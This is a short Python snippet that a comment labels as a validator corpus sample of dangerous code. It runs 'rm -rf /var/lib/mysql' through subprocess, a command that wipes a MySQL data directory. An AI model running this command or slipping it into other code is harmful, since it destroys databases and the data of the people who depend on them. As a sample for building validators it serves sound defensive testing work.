# ruff: noqa  (validator corpus: dangerous or deliberately plain code, kept as written)
import subprocess as sp

ARGS = ["rm", "-rf", "/var/lib/mysql"]
sp.call(ARGS)
